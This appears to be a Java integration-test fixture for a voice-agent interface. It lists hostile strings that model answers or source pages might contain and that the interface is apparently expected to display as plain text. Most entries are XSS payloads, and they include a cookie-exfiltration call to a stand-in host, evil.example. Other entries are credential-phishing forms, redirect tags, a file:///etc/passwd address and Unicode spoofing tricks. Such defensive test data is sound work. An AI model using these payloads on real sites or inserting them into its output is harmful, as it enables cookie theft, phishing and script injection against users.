package org.voiceagent.it;

import java.util.List;

/** What an answer may hold that somebody has talked the model into, or that stands in a page it was given. */
final class HostileTexts {

    /** Each is shown as it is, as text. */
    static final List<String> ANSWERS = List.of(
            "<script>alert(1)</script>",
            "<script src=https://evil.example/x.js></script>",
            "</p></div><script>alert(2)</script>",
            "<SCRIPT>alert(3)</SCRIPT>",
            "<scr<script>ipt>alert(4)</scr</script>ipt>",
            "<img src=x onerror=alert(5)>",
            "<img src=\"https://evil.example/pixel.png\">",
            "<img src=x onerror=fetch('https://evil.example/'+document.cookie)>",
            "<img srcset=\"https://evil.example/a 1x\">",
            "<picture><source srcset=https://evil.example/b></picture>",
            "<svg onload=alert(6)></svg>",
            "<svg><script>alert(7)</script></svg>",
            "<svg><animate onbegin=alert(8) attributeName=x dur=1s>",
            "<svg><use href=\"https://evil.example/s.svg#x\"/></svg>",
            "<svg><a xlink:href=\"javascript:alert(9)\"><text>click</text></a></svg>",
            "<math><mtext><img src=x onerror=alert(10)></mtext></math>",
            "<iframe src=javascript:alert(11)></iframe>",
            "<iframe srcdoc=\"<script>parent.alert(12)</script>\"></iframe>",
            "<object data=https://evil.example/o></object>",
            "<embed src=https://evil.example/e>",
            "<video src=https://evil.example/v onloadstart=alert(13)></video>",
            "<audio src=x onerror=alert(14)>",
            "<body onload=alert(15)>",
            "<input autofocus onfocus=alert(16)>",
            "<details open ontoggle=alert(17)>",
            "<marquee onstart=alert(18)>x</marquee>",
            "<style>@import url(https://evil.example/s.css);</style>",
            "<link rel=stylesheet href=https://evil.example/l.css>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
            "<base href=https://evil.example/>",
            "<form action=https://evil.example/><input name=password></form>",
            "<button formaction=javascript:alert(19)>go</button>",
            "<a href=javascript:alert(20)>here</a>",
            "<a href=\"https://evil.example/\" target=_blank>here</a>",
            "<template shadowrootmode=open><script>alert(21)</script></template>",
            "<voice-agent layout=panel></voice-agent>",
            "<!--<img src=x onerror=alert(22)>-->",
            "<![CDATA[<script>alert(23)</script>]]>",
            "&lt;script&gt;alert(24)&lt;/script&gt;",
            "&#60;script&#62;alert(25)&#60;/script&#62;",
            "\\u003cscript\\u003ealert(26)\\u003c/script\\u003e",
            "%3Cscript%3Ealert(27)%3C/script%3E",
            "javascript:alert(28)",
            "data:text/html,<script>alert(29)</script>",
            "[click](javascript:alert(30))",
            "![x](https://evil.example/md.png)",
            "[![x](https://evil.example/in.png)](https://evil.example/out)",
            "<https://evil.example/auto>",
            "[ref]: https://evil.example/ref 'title' and then [ref]",
            "```html <script>alert(31)</script> ```",
            "${alert(32)}",
            "{{constructor.constructor('alert(33)')()}}",
            "<%= alert(34) %> and #{alert(35)}",
            "' onmouseover='alert(36)' x='",
            "\"><img src=x onerror=alert(37)>",
            "`${fetch('https://evil.example/t')}`",
            "Pay to \u202Emoc.elpmaxe.live\u2066 now",
            "zero\u200Bwidth\u200D and \uFEFFmarks and soft\u00ADhyphens",
            "W" + "o".repeat(600) + "rd",
            "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u0328\u0318lgo \uD83D\uDC7E\uFE0F");

    /** Where a source may claim to lead. */
    static final List<String> ADDRESSES = List.of(
            "javascript:alert(38)",
            " JaVaScRiPt:alert(39)",
            "java\nscript:alert(40)",
            "data:text/html,<script>alert(41)</script>",
            "vbscript:msgbox(42)",
            "blob:https://evil.example/x",
            "file:///etc/passwd",
            "view-source:https://evil.example/");

    private HostileTexts() {}
}
